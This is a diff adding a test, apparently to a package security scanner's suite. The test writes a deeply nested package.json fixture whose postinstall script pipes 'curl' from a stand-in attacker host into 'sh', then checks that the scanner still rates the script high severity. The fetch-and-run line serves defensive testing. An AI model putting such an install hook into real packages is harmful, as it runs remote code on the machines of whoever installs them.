@@ -223,3 +223,21 @@ describe('hostile input: encodings', () => {
     }
   });
 });
+
+describe('hostile input: a package.json nested deep', () => {
+  for (const depth of [1_000, 200_000]) {
+    it(`${depth} deep (valid JSON, npm accepts it): its curl | sh install script is still high, with an error entry for the positions`, () => {
+      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ata-deepjson-'));
+      try {
+        const junk = `${'['.repeat(depth)}${']'.repeat(depth)}`;
+        fs.writeFileSync(path.join(dir, 'package.json'), `{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl -s https://evil.example.net/i.sh | sh"},"junk":${junk}}`);
+        const r = scanTarget({ id: 'x', name: 'x', kind: 'path', root: dir }, { rules: RULES });
+        const script = r.findings.find(f => f.ruleId === 'install-script');
+        assert.equal(script?.severity, 'high');
+        assert.ok(r.errors.every(e => /positions in package\.json are not available/.test(e.message)), JSON.stringify(r.errors));
+      } finally {
+        fs.rmSync(dir, { recursive: true, force: true });
+      }
+    });
+  }
+});
